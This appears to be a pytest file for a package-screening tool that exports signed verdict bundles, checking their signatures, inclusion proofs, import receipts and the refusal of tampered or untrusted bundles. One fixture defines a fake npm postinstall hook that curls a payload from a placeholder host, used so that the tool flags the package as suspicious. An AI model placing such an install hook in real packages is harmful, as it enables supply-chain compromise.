"""Bundles between two deployments: every line checked by securesystemslib, taken over with a receipt, refused when altered."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest
from securesystemslib.dsse import Envelope
from securesystemslib.exceptions import VerificationError
from securesystemslib.signer import SSlibKey

from support.packages import npm_package

ORIGIN = "peer.example/verdicts"
KEY_EVENT = "urn:jurat:attestation:key-event:v1"
RECEIPT = "urn:jurat:attestation:import-receipt:v1"
SUSPICIOUS = dict(
    scripts={"postinstall": "curl -sSf https://cdn.example.invalid/payload.bin -o payload.bin"},
)


def statement(line: dict) -> dict:
    return json.loads(base64.b64decode(line["payload"]))


def leaf_hash(leaf: bytes) -> bytes:
    return hashlib.sha256(b"\0" + leaf).digest()


def root_from_proof(index: int, size: int, leaf: bytes, path: list[bytes]) -> bytes:
    """The root that an inclusion proof leads to (RFC 9162, 2.1.3.2), written anew."""
    node, last, result = index, size - 1, leaf_hash(leaf)
    for sibling in path:
        if node & 1 or node == last:
            result = hashlib.sha256(b"\1" + sibling + result).digest()
            while not node & 1 and node:
                node, last = node >> 1, last >> 1
        else:
            result = hashlib.sha256(b"\1" + result + sibling).digest()
        node, last = node >> 1, last >> 1
    assert last == 0
    return result


def verifier_key(origin: str, public: bytes) -> str:
    typed = b"\x01" + public
    short = hashlib.sha256(origin.encode() + b"\n" + typed).digest()[:4]
    return f"{origin}+{short.hex()}+{base64.b64encode(typed).decode()}"


class Bundle:
    """A bundle read by nothing of jurat."""

    def __init__(self, content: bytes) -> None:
        assert content.endswith(b"\n")
        self.lines = content.split(b"\n")[:-1]
        parsed = [json.loads(line) for line in self.lines]
        self.envelopes = [line for line in parsed if "payload" in line]
        self.leaves = self.lines[: len(self.envelopes)]
        (self.header,) = [line["verdictBundle"] for line in parsed if "verdictBundle" in line]
        self.proofs = [line["tlogProof"] for line in parsed if "tlogProof" in line]
        origin, size, root = self.header["checkpoint"].split("\n")[:3]
        self.origin, self.size, self.root = origin, int(size), base64.b64decode(root)
        self.keys = {}
        for envelope in self.envelopes:
            said = statement(envelope)
            if said["predicateType"] == KEY_EVENT and said["predicate"]["event"] == "add":
                key = base64.b64decode(said["predicate"]["publicKey"])
                der = bytes.fromhex("302a300506032b6570032100") + key
                self.keys[said["predicate"]["role"]] = (hashlib.sha256(der).hexdigest(), key)

    def public_keys(self) -> list[SSlibKey]:
        return [SSlibKey(keyid, "ed25519", "ed25519", {"public": key.hex()}) for keyid, key in self.keys.values()]

    @property
    def vkey(self) -> str:
        return verifier_key(self.origin, self.keys["log"][1])


@pytest.fixture
def peer(deploy, npm_upstream):
    """A deployment whose log says that one package is suspicious and another is clean."""
    bad, good = npm_package("bundle-bad", "1.0.0", **SUSPICIOUS), npm_package("bundle-good", "1.0.0")
    npm = npm_upstream([bad, good])
    server = deploy("peer", npm=npm.url)
    server.run("init", "--origin", ORIGIN)
    server.start()
    for package, status in ((bad, 403), (good, 200)):
        target = f"/{package.name}/-/{package.filename}"
        assert server.get(target, {"User-Agent": "npm/10.8.2 node/v20"}).status == status
    server.settle()
    server.npm_url = npm.url
    return server


def trust(bundle: Bundle) -> str:
    return (
        f"trust:\n  - {{ origin: {bundle.origin}, keys: [\"{bundle.vkey}\"], "
        f"roots: [{bundle.keys['root'][0]}] }}"
    )


def test_every_line_is_a_standard_envelope_in_the_log_that_the_checkpoint_names(peer):
    peer.run("bundle", "export", "--output", "all.intoto.jsonl")
    bundle = Bundle((peer.folder / "all.intoto.jsonl").read_bytes())
    assert bundle.origin == ORIGIN and bundle.header["origin"] == ORIGIN
    assert len(bundle.envelopes) == bundle.header["statements"] == len(bundle.proofs) == bundle.size
    keys = bundle.public_keys()
    for envelope, leaf, proof in zip(bundle.envelopes, bundle.leaves, bundle.proofs, strict=True):
        parsed = Envelope.from_dict(json.loads(leaf))
        assert parsed.payload_type == "application/vnd.in-toto+json"
        parsed.verify(keys, 1)
        damaged = json.loads(leaf)
        damaged["payload"] = base64.b64encode(parsed.payload + b" ").decode()
        with pytest.raises(VerificationError):
            Envelope.from_dict(damaged).verify(keys, 1)
        path = [base64.b64decode(sibling) for sibling in proof["hashes"]]
        assert root_from_proof(proof["index"], bundle.size, leaf, path) == bundle.root
        assert statement(envelope)["_type"] == "https://in-toto.io/Statement/v1"
    again = peer.run("bundle", "export", "--output", "-").stdout.encode()
    assert again == (peer.folder / "all.intoto.jsonl").read_bytes()


def test_a_selection_holds_what_it_names_and_the_keys_to_judge_it(peer):
    peer.run("bundle", "export", "--verdict", "suspicious", "--output", "bad.intoto.jsonl")
    bundle = Bundle((peer.folder / "bad.intoto.jsonl").read_bytes())
    said = [statement(line) for line in bundle.envelopes]
    verdicts = [one for one in said if one["predicateType"].endswith("verdict:v1")]
    assert verdicts and all(one["predicate"]["verdict"] == "suspicious" for one in verdicts)
    assert len(said) - len(verdicts) == sum(one["predicateType"] == KEY_EVENT for one in said) >= 4
    assert bundle.header["selection"] == {"verdict": "suspicious"}


def test_verify_needs_no_server_and_names_line_and_reason(peer, deploy):
    peer.run("bundle", "export", "--output", "all.intoto.jsonl")
    path = peer.folder / "all.intoto.jsonl"
    bundle = Bundle(path.read_bytes())
    root = bundle.keys["root"][0]
    alone = deploy("alone", npm=peer.npm_url)
    found = alone.run_json("bundle", "verify", str(path), "--key", bundle.vkey, "--root", root)
    assert found["verified"] is True and found["statements"] == bundle.size and found["origin"] == ORIGIN
    shown = alone.run_json("bundle", "inspect", str(path))
    assert shown["verified"] is False and len(shown["entries"]) == bundle.size
    assert shown["logKeys"] == [bundle.vkey] and shown["rootKeys"] == [root]

    other = "0" * 64
    refused = alone.run("bundle", "verify", str(path), "--key", bundle.vkey, "--root", other, expect=4)
    assert "line 5: key" in refused.stderr and "introduced by a trusted root" in refused.stderr
    lines = path.read_bytes().split(b"\n")
    lines[5], lines[4] = lines[4], lines[5]
    (alone.folder / "swapped").write_bytes(b"\n".join(lines))
    refused = alone.run("bundle", "verify", "swapped", "--key", bundle.vkey, "--root", root, expect=4)
    assert "is not shown to be in the log" in refused.stderr
    (alone.folder / "crlf").write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    refused = alone.run("bundle", "inspect", "crlf", expect=4)
    assert "line 1: it ends in a carriage return" in refused.stderr
    assert "trust" in alone.run("bundle", "verify", str(path), expect=4).stderr
    alone.run("bundle", "verify", str(path), "--root", root, expect=2)
    alone.run("bundle", "verify", "nothing-here", expect=5)


@pytest.mark.parametrize("serving", [True, False], ids=["through-the-server", "without-a-server"])
def test_a_bundle_is_taken_over_once_with_a_receipt_in_the_log(peer, deploy, serving):
    peer.run("bundle", "export", "--output", "all.intoto.jsonl")
    path = str(peer.folder / "all.intoto.jsonl")
    bundle = Bundle((peer.folder / "all.intoto.jsonl").read_bytes())
    home = deploy("home", npm=peer.npm_url, extra=trust(bundle))
    home.run("init")
    if serving:
        home.start()
    before = home.head_of_log()
    planned = home.run_json("bundle", "import", path, "--dry-run")
    assert planned["newStatements"] == bundle.size and planned["dryRun"] is True
    assert home.head_of_log() == before

    taken = home.run_json("bundle", "import", path)
    assert taken["newStatements"] == bundle.size and taken["logIndex"] == before
    again = home.run_json("bundle", "import", path)
    assert again["newStatements"] == 0 and "receipt" not in again
    assert home.head_of_log() == before + 1

    shown = home.run_json("verdict", "show", taken["receipt"])
    assert shown["payload"]["predicateType"] == RECEIPT
    said = shown["payload"]["predicate"]
    assert said["origin"] == ORIGIN and said["source"] == "bundle"
    digest = hashlib.sha256((peer.folder / "all.intoto.jsonl").read_bytes()).hexdigest()
    assert said["digest"] == {"sha256": digest}
    assert said["checkpoint"]["digest"]["sha256"] == bundle.root.hex()
    home.run("log", "verify")

    altered = (peer.folder / "all.intoto.jsonl").read_bytes().replace(b'"index":2', b'"index":3', 1)
    (home.folder / "altered").write_bytes(altered)
    assert "line " in home.run("bundle", "import", "altered", expect=4).stderr
    assert home.head_of_log() == before + 1


def test_a_log_that_nobody_trusts_is_not_imported(peer, deploy):
    peer.run("bundle", "export", "--output", "all.intoto.jsonl")
    home = deploy("home", npm=peer.npm_url).start()
    before = home.head_of_log()
    refused = home.run("bundle", "import", str(peer.folder / "all.intoto.jsonl"), expect=4)
    assert f"{ORIGIN} is not trusted here" in refused.stderr
    assert home.head_of_log() == before
